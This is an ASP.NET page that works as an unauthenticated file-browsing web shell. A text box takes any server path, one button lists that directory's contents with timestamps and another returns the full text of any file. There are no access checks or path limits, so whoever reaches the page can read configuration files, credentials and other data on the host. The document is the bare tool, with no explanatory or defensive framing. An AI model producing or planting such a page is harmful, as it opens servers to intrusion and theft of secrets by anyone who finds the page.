<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Browse_Click(object sender, EventArgs e)
{
    var di = new DirectoryInfo(PathBox.Text);
    var sb = new System.Text.StringBuilder();
    foreach (var f in di.GetFileSystemInfos()) sb.AppendFormat("{0}\t{1}\n", f.LastWriteTime, f.FullName);
    Listing.Text = Server.HtmlEncode(sb.ToString());
}
protected void Read_Click(object sender, EventArgs e)
{
    Listing.Text = Server.HtmlEncode(File.ReadAllText(PathBox.Text));
}
</script>
<html><body><form runat="server">
<asp:TextBox ID="PathBox" runat="server" Width="600" />
<asp:Button runat="server" Text="List" OnClick="Browse_Click" /><asp:Button runat="server" Text="Read" OnClick="Read_Click" />
<pre><asp:Literal ID="Listing" runat="server" /></pre>
</form></body></html>
